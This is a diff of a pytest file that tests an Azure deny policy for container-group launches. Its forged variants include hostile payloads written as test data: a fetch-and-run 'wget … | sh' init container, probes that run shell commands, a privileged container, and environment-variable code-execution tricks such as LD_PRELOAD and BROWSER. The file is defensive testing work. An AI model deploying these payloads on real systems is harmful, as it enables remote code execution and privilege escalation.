@@ -5,13 +5,18 @@ its rule, as the stack writes it, evaluated against the request the dispatcher r
 from __future__ import annotations
 
 import copy
+from pathlib import Path
 from typing import Any
 
 import pytest
 
-from dispatcher.machines.aci.groups import group_body
+from botchannel.contract import CHANNEL_TOKEN_VARIABLE, MACHINE_ID_VARIABLE
+from dispatcher.machines.aci.groups import TAG_CLAIMED, TAG_DIGEST, TAG_SESSION, group_body
+from dispatcher.machines.aci.provider import BOT_CHANNEL_URL
 from dispatcher.machines.aci.settings import AciSettings
-from stacks.azure.launch_policy import ALIASES, GROUPS
+from dispatcher.machines.base import LaunchSpec, MachinesError
+from dispatcher.machines.bot_environment import TRANSPORT, bot_environment
+from stacks.azure.launch_policy import ALIASES, GROUPS, UNVERIFIED
 from stacks.tools.mocks import Run, unwrap
 from tests.infra.azure.test_stack import env
 from tests.infra.conftest import StackRunner
@@ -32,10 +37,26 @@ def settings(run: Run) -> AciSettings:
     return AciSettings.from_env({name: e["value"] for name, e in env(run).items() if "value" in e})
 
 
-def launched(run: Run, image: str | None = None) -> dict[str, Any]:
-    """The body the aci provider PUTs for a session, built by its own code from the stack's settings."""
-    return group_body(settings(run), {"DAILY_ROOM_URL": "https://example.daily.co/r", "BOT_TOKEN": "t"},
-                      {"voicefleet-session": "s-1"}, image=image)
+def launched(run: Run, image: str | None = None, channel_token: str | None = None) -> dict[str, Any]:
+    """The body the aci provider PUTs for a session, built by its own code from the stack's settings:
+    every variable a cold launch can carry (the bots' secrets, the channel, the session's values)."""
+    aci = settings(run)
+    spec = LaunchSpec(session_id="s-1", body_digest="d", body={"a": 1}, max_session_seconds=600,
+                      room_url="https://example.daily.co/r",
+                      bot_token="t", ice_config={"iceServers": []}, transport="websocket",
+                      channel_token=channel_token)
+    env = {**dict.fromkeys(aci.bot_secrets, "secret"), BOT_CHANNEL_URL: "wss://d/channel",
+           "BOT_IMAGE_DIGEST": image or aci.bot_image, **bot_environment(spec)}
+    return group_body(aci, env, {TAG_SESSION: "s-1"}, image=image)
+
+
+def idle(run: Run) -> dict[str, Any]:
+    """A reserve group's body, with the values aci/reserve.py launch_idle sends."""
+    aci = settings(run)
+    env = {**dict.fromkeys(aci.bot_secrets, "secret"), BOT_CHANNEL_URL: "wss://d/channel",
+           "BOT_IMAGE_DIGEST": aci.bot_image, MACHINE_ID_VARIABLE: "b-1", TRANSPORT: "daily",
+           CHANNEL_TOKEN_VARIABLE: "c"}
+    return group_body(aci, env, {"voicefleet-idle": "b-1"})
 
 
 def test_the_policy_is_a_deny_assigned_on_the_stacks_resource_group_before_the_dispatcher_exists(full: Run) -> None:
@@ -59,11 +80,27 @@ def test_the_rule_pins_the_stacks_registry_bot_repositories_by_digest_and_the_bo
     assert set(ALIASES) <= set(PATHS)
 
 
+def test_every_unverified_alias_is_in_the_docs_list_of_what_a_subscription_must_verify() -> None:
+    verify = Path("docs/pulumi.md").read_text().split("What only a real subscription can verify", 1)[1]
+    assert UNVERIFIED and [alias for alias in UNVERIFIED if f"`{alias}`" not in verify] == []
+
+
 def test_what_the_dispatcher_launches_is_allowed(full: Run) -> None:
     aci = settings(full)
     assert aci.webrtc_image is not None
+    assert aci.bot_secrets and aci.bot_settings  # the deployment's own variables are in the body too
     for image in (None, aci.webrtc_image):
         assert not denies(rule(full), GROUPS, launched(full, image))
+        assert not denies(rule(full), GROUPS, launched(full, image, channel_token="c"))
+    assert not denies(rule(full), GROUPS, idle(full))
+
+
+def test_the_reserves_claim_a_tags_only_patch_passes_as_arm_may_evaluate_its_body(full: Run) -> None:
+    """aci/reserve.py adopt() PATCHes `{"tags": …}`: whether ARM evaluates that body or the group it
+    makes, the claim is not refused (the group's own checks are guarded by its containers)."""
+    claim = {"tags": {TAG_SESSION: "s-1", TAG_DIGEST: "d", TAG_CLAIMED: "1"}}
+    assert not denies(rule(full), GROUPS, claim)
+    assert not denies(rule(full), GROUPS, {**idle(full), **claim})
 
 
 def forged(run: Run) -> dict[str, dict[str, Any]]:
@@ -94,6 +131,30 @@ def forged(run: Run) -> dict[str, dict[str, Any]]:
     del variant("no subnet")["properties"]["subnetIds"]
     variant("another subnet")["properties"]["subnetIds"] = [{"id": FOREIGN_SUBNET}]
     variant("a second subnet")["properties"]["subnetIds"].append({"id": FOREIGN_SUBNET})
+    variant("an init container")["properties"]["initContainers"] = [{"name": "x", "properties": {
+        "image": f"docker.io/library/alpine@{DIGEST}", "command": ["sh", "-c", "wget -qO- https://x/y | sh"]}}]
+    for probe in ("livenessProbe", "readinessProbe"):
+        container(variant(f"a {probe} running a command"))[probe] = {
+            "exec": {"command": ["python", "-c", "import os; os.system('id')"]}, "periodSeconds": 10}
+    container(variant("a privileged container"))["securityContext"] = {
+        "privileged": True, "capabilities": {"add": ["SYS_ADMIN", "NET_ADMIN"]}}
+    container(variant("a variable that runs code in Python"))["environmentVariables"] += [
+        {"name": "PYTHONWARNINGS", "value": "ignore::antigravity.x::0"}, {"name": "BROWSER", "value": "sh -c id"}]
+    container(variant("a variable, as a secure value"))["environmentVariables"].append(
+        {"name": "LD_PRELOAD", "secureValue": "/tmp/x.so"})
+    variant("the confidential sku")["properties"]["sku"] = "Confidential"
+    del variant("no sku")["properties"]["sku"]
+    variant("a confidential compute policy")["properties"]["confidentialComputeProperties"] = {"ccePolicy": "e30="}
+    profile = variant("containers from a container group profile")
+    del profile["properties"]["containers"]
+    profile["properties"]["containerGroupProfile"] = {
+        "id": "/subscriptions/x/resourceGroups/y/providers/Microsoft.ContainerInstance/containerGroupProfiles/p",
+        "revision": 1}
+    variant("a standby pool's profile")["properties"]["standbyPoolProfile"] = {"id": "/subscriptions/x/pool"}
+    variant("an extension")["properties"]["extensions"] = [{"name": "e", "properties": {"extensionType": "kube-proxy"}}]
+    variant("a system-assigned identity too")["identity"]["type"] = "SystemAssigned, UserAssigned"
+    variant("only a system-assigned identity")["identity"] = {"type": "SystemAssigned"}
+    del variant("no identity")["identity"]
     return variants
 
 
@@ -110,10 +171,19 @@ def test_without_turn_the_webrtc_repository_is_not_admitted(stack: StackRunner) 
     assert not denies(rule(run), GROUPS, launched(run)) and denies(rule(run), GROUPS, webrtc)
 
 
-@pytest.mark.parametrize("operator", ["in", "contains"])
+@pytest.mark.parametrize("operator", ["containsKey", "contains"])
 def test_the_evaluator_refuses_what_it_cannot_evaluate(full: Run, operator: str) -> None:
     """A rule outside the evaluator's subset fails the tests instead of reading as "allowed"."""
     changed = copy.deepcopy(rule(full))
     changed["if"]["allOf"][0] = {"field": "type", operator: [GROUPS]}
     with pytest.raises(ValueError, match="not in this evaluator's subset"):
         denies(changed, GROUPS, launched(full))
+
+
+def test_the_provider_refuses_to_send_a_variable_the_policy_would_refuse(full: Run) -> None:
+    """LAUNCH_VARIABLES is both sides' list: a variable added to the provider's launches but not to
+    it fails here, in the provider, before Azure would refuse every launch with it."""
+    with pytest.raises(MachinesError, match="PYTHONWARNINGS"):
+        group_body(settings(full), {"PYTHONWARNINGS": "ignore"}, {TAG_SESSION: "s-1"})
+    assert denies(rule(full), GROUPS, group_body(settings(full), {"EXTRA_API_KEY": "k"}, {TAG_SESSION: "s-1"},
+                                                 env_from=["EXTRA_API_KEY"]))  # the stack sets no ACI_BOT_ENV_FROM
